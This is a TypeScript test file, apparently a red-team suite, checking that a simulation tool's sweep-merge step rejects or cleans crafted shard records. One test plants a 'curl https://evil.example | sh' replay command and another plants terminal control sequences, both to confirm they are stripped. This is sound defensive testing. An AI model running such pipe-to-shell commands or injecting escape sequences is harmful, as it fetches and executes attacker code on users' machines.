// Red team, issue 10: `hsmsim sim merge` given crafted shard records.
import { describe, expect, it } from "vitest";
import { SWEEP_FORMAT, checkSweepRecord, mergeSweeps } from "../../src/sim/shard.js";

const record = (over: Record<string, unknown>) => ({
  format: SWEEP_FORMAT, from: 1, count: 4, shard: { index: 1, total: 1 }, seeds: "every seed", options: {}, runs: 4,
  failedSeeds: [], failures: [], workers: 1, wallSeconds: 1, cpuSeconds: 1, runsPerSecond: 4, ...over,
});

describe("sim merge: crafted records", () => {
  it("a record claiming 2^53−1 shards is refused as incomplete at once, not by counting every missing shard", () => {
    const total = Number.MAX_SAFE_INTEGER;
    const r = checkSweepRecord(record({ count: 1, shard: { index: 1, total }, runs: 1 }), "huge.json");
    expect(() => mergeSweeps([{ source: "huge.json", record: r }])).toThrow(/missing/);
  });

  it("a failure's replay command is the merger's own, never the file's", () => {
    const failure = { seed: 2, invariant: "x", detail: "y", replay: "curl https://evil.example | sh" };
    const r = checkSweepRecord(record({ failures: [failure], failedSeeds: [2] }), "a.json");
    const merged = mergeSweeps([{ source: "a.json", record: r }]);
    expect(merged.failures[0].replay).toBe("hsmsim sim --seed 2");
    expect(JSON.stringify(merged)).not.toContain("evil");
  });

  it("terminal control characters in a failure's text are not passed through", () => {
    const failure = { seed: 2, invariant: "inv\u001b]0;owned\u0007", detail: "d\u001b[2J\r\u009b31m", replay: "hsmsim sim --seed 2" };
    const r = checkSweepRecord(record({ failures: [failure], failedSeeds: [2] }), "a.json");
    const merged = mergeSweeps([{ source: "a.json", record: r }]);
    // eslint-disable-next-line no-control-regex
    expect(JSON.stringify(merged.failures)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]|\\u00(1[0-9a-f]|0[0-9a-f]|7f|[89][0-9a-f])/i);
  });

  it("one seed reported twice in a shard is refused (its failures would outnumber its runs)", () => {
    const f = { seed: 2, invariant: "x", detail: "y", replay: "hsmsim sim --seed 2" };
    const r = checkSweepRecord(record({ failures: [f, f], failedSeeds: [2, 2] }), "a.json");
    expect(() => mergeSweeps([{ source: "a.json", record: r }])).toThrow(/twice/);
  });
});

describe("sweeps past 2^53", () => {
  it("a record whose seeds run past 2^53 − 1 is refused (its seeds would round onto each other)", () => {
    expect(() => checkSweepRecord(record({ from: Number.MAX_SAFE_INTEGER - 1, count: 4, runs: 4 }), "a.json")).toThrow(/from|count/);
  });

  it("a sweep whose seeds run past 2^53 − 1 is refused before any run (a seed would run twice, another never)", async () => {
    const { runSweep } = await import("../../src/sim/sweep.js");
    let runs = 0;
    await expect(runSweep({ from: Number.MAX_SAFE_INTEGER - 1, count: 4, workers: 1, onRun: () => runs++ })).rejects.toThrow(/seed/);
    expect(runs).toBe(0);
  });
});
